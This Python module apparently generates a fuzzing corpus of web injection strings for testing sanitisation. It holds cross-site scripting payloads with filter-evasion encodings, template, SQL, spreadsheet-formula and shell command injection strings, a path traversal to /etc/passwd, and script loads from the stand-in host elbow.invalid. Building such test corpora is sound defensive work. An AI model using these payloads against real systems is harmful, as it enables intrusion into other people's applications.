"""Words that try to run: over two hundred, made of families. Whatever runs of them sets `window.__xss` or asks somebody
for something. Each fits into a beginning of a sentence (80 letters); those for names are shorter."""

from collections.abc import Iterator

RUN = "__xss=1"
CALL = "alert(1)"

TAGS = ("script", "SCRIPT", "scr\tipt", "script/x", "script\n", "sc<script>ript", "svg><script")
HANDLED = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "marquee", "input autofocus"),
    *(
        "select autofocus",
        "textarea autofocus",
        "iframe",
        "object data=x",
        "embed src=x",
        "link rel=stylesheet href=x",
    ),
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter", "onanimationstart")
IN_SVG = (
    "<svg><script>{}</script>",
    "<svg><script xlink:href=data:,{} />",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={}>",
    "<svg><a xlink:href=javascript:{}><text y=9>x",
    "<svg><foreignObject><img src=x onerror={}>",
    "<svg><style><img src=x onerror={}></style>",
    "<svg><title><img src=x onerror={}></title>",
    "<svg><use href=data:image/svg+xml,<svg/onload={}>>",
    "<svg/onload={}//",
    "<svg/x='>'/onload={}",
    "<svg><discard onbegin={}>",
)
IN_MATH = (
    "<math href=javascript:{}>x</math>",
    "<math><mi xlink:href=javascript:{}>x",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x",
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    " javascript:{}",
    "javascript://%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+",
    "data:application/javascript,{}",
    "view-source:javascript:{}",
    "blob:javascript:{}",
    "//elbow.invalid/{}",
    "http://elbow.invalid/x.js?{}",
)
AROUND = (
    '<a href="{}">x</a>',
    "<iframe src='{}'>",
    "<form action={}><button>x",
    "<base href={}>",
    "<object data={}>",
)
OUT_OF = (
    "\">{}", "'>{}", "`>{}", "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "</option></select>{}",
    "-->{}", "]]>{}", "*/{}", "</noscript>{}", "</template>{}", "</bdi>{}", "<![CDATA[{}]]>", "<!--{}-->", "<!-->{}",
)  # fmt: skip
INTO_ATTRIBUTES = (
    '" onfocus="{}" autofocus x="',
    "' onfocus='{}' autofocus x='",
    '" style="x:expression({})',
    '" formaction="javascript:{}',
    '" srcdoc="<script>{}</script>',
    "x onmouseover={} ",
    '" onload="{}',
    '\\" onerror=\\"{}',
    "&quot; onfocus=&quot;{}",
    "&#34; onfocus=&#34;{}&#34; autofocus",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% if x %}x{% endif %}",
    "{{config.items()}}",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('__xss=1')()}}",
    "{{$on.constructor('__xss=1')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "[[7*7]]",
    "{n} {name} {code}",
    "{0} %s %(name)s %n",
    "<x v-html=__xss=1>",
    "<div ng-app ng-init=__xss=1>",
    "<x @click=__xss=1 :x=__xss=1>",
    "$(touch /tmp/x)",
    "`id`; ls | cat",
    "{{range.constructor('return 1')()}}",
)
SCRIPTS = (
    "';__xss=1//",
    '";__xss=1//',
    "\\';__xss=1//",
    "');__xss=1;//",
    "};__xss=1;{",
    "\u2028__xss=1\u2028",
    '{"__proto__":{"x":1}}',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "');DROP TABLE events;--",
    "' OR '1'='1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elbow.invalid","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
)
ENCODED = (
    "&lt;script&gt;__xss=1&lt;/script&gt;",
    "%3Cscript%3E__xss=1%3C/script%3E",
    "\\u003cscript\\u003e__xss=1",
    "\\x3cimg src=x onerror=__xss=1\\x3e",
    "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e",
    "+ADw-script+AD4-__xss=1",
    "<\u017fcript>__xss=1</\u017fcript>",
    "<img src=x onerror=&#95;&#95;xss=1>",
    "<img src=x onerror=\\u005f_xss=1>",
    "<\u0130mg src=x onerror=__xss=1>",
    "<script>__xss=1</script >",
    "<scr\u200dipt>__xss=1</scr\u200dipt>",
    "\u2066<img src=x onerror=__xss=1>\u2069",
    "\u202e<img src=x onerror=__xss=1>",
    "<img\x0bsrc=x\x0bonerror=__xss=1>",
    "<img src=x onerror\u00a0=__xss=1>",
    "\u02ba><img src=x onerror=__xss=1>",
    "&amp;lt;b&amp;gt;",
    "&#x3c;img src=x onerror=__xss=1&#x3e;",
    "<b>bold</b> <u>under</u>",
)
STYLES = (
    "<style>*{background:url(//elbow.invalid)}</style>",
    "<style>@import'//elbow.invalid/x'</style>",
    "<style>@import'javascript:__xss=1'</style>",
    "<x style=background:url(javascript:__xss=1)>",
    "<x style=behavior:url(#x)>",
    "<div style=position:fixed;inset:0;background:red>x",
    "</style><style>body{display:none}",
    "}*{display:none}x{",
    "expression(__xss=1)",
    "url(javascript:__xss=1)",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__xss=1>",
)
MANY_WAYS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */__xss=1 )//</stYle/</titLe/</teXtarEa/",
    "'\"`><img src=x onerror=__xss=1>{{7*7}}${7*7}",
    "--></script><svg/onload=__xss=1>",
    "\"'><script src=//elbow.invalid/x.js></script>",
    '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
    "<form id=x><input name=attributes><img src=x onerror=__xss=1>",
    "<a id=facts>x</a><a id=page>y</a>",
    "<img name=getElementById><img id=body>",
    "<meta http-equiv=refresh content=0;url=javascript:__xss=1>",
    "<template><img src=x onerror=__xss=1></template>",
    "<iframe srcdoc='<script>top.__xss=1</script>'>",
    "<table background=javascript:__xss=1><td>",
    "<isindex action=javascript:__xss=1 type=image>",
    "<![endif]--><script>__xss=1</script>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'>",
    "<img src=x:x onerror=__xss=1//",
    "<img/src/onerror=__xss=1>",
    "<img src=`x`onerror=__xss=1>",
    "<<img src=x onerror=__xss=1>>",
    "<img src=x onerror=__xss=1",
)


def all_words() -> Iterator[str]:
    yield from (f"<{tag}>{RUN}</{tag.split('/')[0]}>" for tag in TAGS)
    yield from tags_with_handlers()
    for family in (IN_SVG, IN_MATH, ADDRESSES, INTO_ATTRIBUTES):
        yield from (pattern.format(RUN) for pattern in family)
    for place, around in enumerate(AROUND):
        yield from (around.format(ADDRESSES[(place + step) % 5].format(RUN)) for step in range(3))
    yield from (pattern.format(f"<img src=x onerror={RUN}>") for pattern in OUT_OF)
    yield from (*TEMPLATES, *SCRIPTS, *ENCODED, *STYLES, *MANY_WAYS)


def tags_with_handlers() -> Iterator[str]:
    for place, tag in enumerate(HANDLED):
        for handler in (HANDLERS[place % len(HANDLERS)], HANDLERS[(place + 3) % len(HANDLERS)]):
            yield f"<{tag} {handler}={RUN}>"
        yield f"<{tag} onerror={CALL}>"


WORDS = tuple(dict.fromkeys(all_words()))
SHORT = (
    *(
        "<b onfocus=__xss=1>",
        "<svg onload=__xss=1>",
        "<q oncut=__xss=1>",
        "<script>__xss=1",
        "{{7*7}}",
        "${7*7}",
    ),
    *(
        "javascript:__xss=1",
        '"onfocus=__xss=1 x="',
        "'onfocus='__xss=1",
        "</script><svg>",
        "&lt;b&gt;x&lt;/b&gt;",
    ),
    *("__proto__", "constructor", "=1+1", "@SUM(1+1)", "#{7*7}", "{% x %}", "<!--x", "]]>x", "</bdi><b>x"),
)
"""For names, of which many are shorter still: a table is called by twelve letters."""


def packed(words: tuple[str, ...], most: int) -> list[str]:
    """Texts of at most so many letters, words one after the other, none left out that fits alone."""
    texts: list[str] = []
    for word in words:
        if texts and len(texts[-1]) + 1 + len(word) <= most:
            texts[-1] += " " + word
        elif len(word) <= most:
            texts.append(word)
    return texts
